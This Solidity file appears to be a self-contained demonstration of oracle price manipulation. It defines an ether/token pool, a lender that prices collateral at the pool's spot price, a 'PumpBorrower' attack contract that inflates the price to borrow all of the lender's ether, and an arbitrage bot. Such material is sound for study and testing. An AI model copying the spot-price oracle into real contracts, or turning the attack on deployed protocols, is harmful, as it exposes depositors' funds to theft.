// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

interface IToken {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice Constant-product math (0.3% fee), as a library.
library ReserveMath {
    function amountOut(uint256 amountIn, uint256 reserveIn, uint256 reserveOut)
        internal
        pure
        returns (uint256)
    {
        uint256 withFee = amountIn * 997;
        return (withFee * reserveOut) / (reserveIn * 1000 + withFee);
    }
}

/// @notice A seeded ether/token constant-product pool with its own ABI (no pairs, no router):
///         buyToken pays ether in, sellToken pays it out; spotPrice is ether per token (1e18).
contract Reservoir {
    using ReserveMath for uint256;

    IToken public immutable token;
    address public immutable seeder;
    uint256 public reserveEth;
    uint256 public reserveToken;

    event Swap(address indexed trader, bool buy, uint256 amountIn, uint256 amountOut);

    constructor(IToken token_) {
        token = token_;
        seeder = msg.sender;
    }

    function seed(uint256 tokenAmount) external payable {
        require(msg.sender == seeder && reserveEth == 0, "Reservoir: seeded");
        require(token.transferFrom(msg.sender, address(this), tokenAmount), "Reservoir: pull");
        reserveEth = msg.value;
        reserveToken = tokenAmount;
    }

    function buyToken(uint256 minOut) external payable returns (uint256 out) {
        out = msg.value.amountOut(reserveEth, reserveToken);
        require(out >= minOut, "Reservoir: slippage");
        reserveEth += msg.value;
        reserveToken -= out;
        require(token.transfer(msg.sender, out), "Reservoir: push");
        emit Swap(msg.sender, true, msg.value, out);
    }

    function sellToken(uint256 amountIn, uint256 minOut) external returns (uint256 out) {
        require(token.transferFrom(msg.sender, address(this), amountIn), "Reservoir: pull");
        out = amountIn.amountOut(reserveToken, reserveEth);
        require(out >= minOut, "Reservoir: slippage");
        reserveToken += amountIn;
        reserveEth -= out;
        (bool ok,) = msg.sender.call{value: out}("");
        require(ok, "Reservoir: pay");
        emit Swap(msg.sender, false, amountIn, out);
    }

    function spotPrice() external view returns (uint256) {
        return (reserveEth * 1e18) / reserveToken;
    }
}

/// @notice Lends ether against the token, valued at a Reservoir's spot price (75% LTV).
contract SpotLender {
    Reservoir public immutable oracle;
    IToken public immutable token;
    mapping(address => uint256) public supplied;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    constructor(Reservoir oracle_) {
        oracle = oracle_;
        token = oracle_.token();
    }

    function supply() external payable {
        supplied[msg.sender] += msg.value;
    }

    function depositCollateral(uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount), "SpotLender: pull");
        collateral[msg.sender] += amount;
    }

    function borrow(uint256 amount) external {
        uint256 value = (collateral[msg.sender] * oracle.spotPrice()) / 1e18;
        require(debt[msg.sender] + amount <= (value * 75) / 100, "SpotLender: undercollateralised");
        debt[msg.sender] += amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "SpotLender: pay");
    }
}

/// @notice Attacker with its own ether (no flash loan): buys the token to pump the spot price,
///         pledges part of it, borrows the lender's cash, sells the rest back.
contract PumpBorrower {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function attack(Reservoir pool, SpotLender lender, uint256 pledged) external payable {
        IToken token = pool.token();
        pool.buyToken{value: msg.value}(0);
        token.approve(address(lender), pledged);
        lender.depositCollateral(pledged);
        lender.borrow(address(lender).balance);
        uint256 rest = token.balanceOf(address(this));
        token.approve(address(pool), rest);
        pool.sellToken(rest, 0);
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "PumpBorrower: pay");
    }

    receive() external payable {}
}

/// @notice A trader's bot: buys the token where it is cheap, sells all of it where it is dear,
///         and keeps only a profit in ether.
contract RoundTripBot {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function run(Reservoir cheap, Reservoir dear) external payable {
        require(msg.sender == owner, "RoundTripBot: owner");
        IToken token = cheap.token();
        uint256 bought = cheap.buyToken{value: msg.value}(0);
        token.approve(address(dear), bought);
        dear.sellToken(bought, msg.value + 1);
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "RoundTripBot: pay");
    }

    receive() external payable {}
}
